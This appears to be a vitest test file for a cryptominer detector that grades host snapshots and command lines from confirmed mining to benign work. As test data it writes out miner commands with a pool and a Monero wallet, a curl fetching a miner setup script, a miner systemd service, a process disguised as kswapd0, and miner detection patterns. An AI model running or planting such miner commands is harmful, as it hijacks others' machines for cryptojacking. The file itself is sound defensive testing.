import { describe, expect, it } from 'vitest'
import { emptyPicture, emptyProcess, type Picture } from '../picture.js'
import { seen } from '../seen.js'
import { commandRow } from '../tell/tell.fixture.js'
import { judge } from './judge.js'

const wallet = '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD'
const host = (part: Partial<Picture>) =>
  judge(seen({ ...emptyPicture, os: 'linux', subject: { kind: 'host', id: 'h' }, ...part }))
const line = (cmdline: string) =>
  judge(seen({ ...emptyPicture, subject: { kind: 'event', id: 'e' }, processes: [{ ...emptyProcess, cmdline }] }))

describe('verdicts', () => {
  it('are confirmed for a program at work with a pool and an account, and never for a line alone', () => {
    const cmdline = `/tmp/a -o pool.supportxmr.com:443 -u ${wallet}`
    expect(host({ processes: [{ ...emptyProcess, pid: 7, path: '/tmp/a', cmdline, cpuPct: 380 }] })).toMatchObject({
      verdict: 'confirmed',
      stage: 'mining',
      mining: { pool: 'pool.supportxmr.com:443', poolAccount: wallet },
    })
    expect(line(cmdline)?.verdict).toBe('probable')
  })

  it('are no more than suspect for what prepares it', () => {
    expect(line(`curl -sL https://example.org/setup_c3pool_miner.sh -o s.sh`)).toMatchObject({
      verdict: 'suspect',
      stage: 'preparing',
    })
    const installed = {
      path: '/etc/systemd/system/c3pool_miner.service',
      description: null,
      exec: [],
      restart: null,
      nice: null,
      cpuWeight: null,
      enabled: true,
    }
    expect(host({ units: [installed] })).toMatchObject({ verdict: 'suspect', stage: 'residual' })
  })

  it('name other uses as such', () => {
    expect(line('monerod --detach')).toMatchObject({ verdict: 'related', stage: 'dual-use' })
    expect(line('./p2pclient -l me')).toMatchObject({ verdict: 'related', stage: 'proxyjacking' })
  })

  it('do not sum up weak signs of different processes', () => {
    const processes = [
      { ...emptyProcess, pid: 1, name: 'a', path: '/opt/a (deleted)', onDisk: false },
      { ...emptyProcess, pid: 2, name: 'b', path: '/srv/b (deleted)', onDisk: false },
      { ...emptyProcess, pid: 3, name: 'c', path: '/memfd:c' },
    ]
    expect(host({ processes })?.verdict ?? null).not.toBe('suspect')
  })

  it('leave the owner an open question', () => {
    const hidden = host({
      processes: [{ ...emptyProcess, pid: 7, name: 'kswapd0', path: '/root/.x/kswapd0', cpuPct: 390 }],
    })
    expect(hidden?.alternatives.filter(({ code }) => code === 'host.alternative.victim')).toMatchObject([
      { status: 'open' },
    ])
    const open = host({
      processes: [{ ...emptyProcess, pid: 7, name: 'xmrig', cmdline: `xmrig -o pool.supportxmr.com:443 -u ${wallet}` }],
    })
    expect(open?.alternatives.map(({ code, status }) => [code, status])).toContainEqual([
      'host.alternative.operator',
      'open',
    ])
  })
})

describe('work that is no mining', () => {
  it.each([
    'htop',
    'masscan 10.0.0.0/8 -p3333 --rate 1000',
    'make -j64',
    'blender -b scene.blend -a',
    'FAHClient --user=me --team=1',
    'grep -rE "xmrig|stratum\\+tcp" /var/log',
    'pkill -9 -f xmrig; pkill minerd',
    'clamscan -r / | grep -i coinminer',
    'yara miner.yar /tmp',
    'hashcat -m 22000 a.hc22000 w.txt',
    'electrum daemon -d',
    `bitcoin-cli sendtoaddress bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4 1`,
    'ffmpeg -i a -c:v libx264 -threads 64 o.mkv',
    'curl -s https://api.example.org/xmr/price',
    'python3 train.py --algo ppo --pool max',
    'iptables -A OUTPUT -d pool.supportxmr.com -j DROP',
    'tcpdump -i eth0 port 3333',
    'echo "stratum+tcp://pool.example.org:3333 is blocked" | mail -s x y',
  ])('is not accused: %s', (text) => {
    expect(['confirmed', 'probable', 'suspect']).not.toContain(line(text)?.verdict)
    expect(['confirmed', 'probable', 'suspect']).not.toContain(
      judge(seen({ ...emptyPicture, subject: { kind: 'event', id: 'e' }, commands: [commandRow(text, 'history')] }))
        ?.verdict,
    )
  })
})
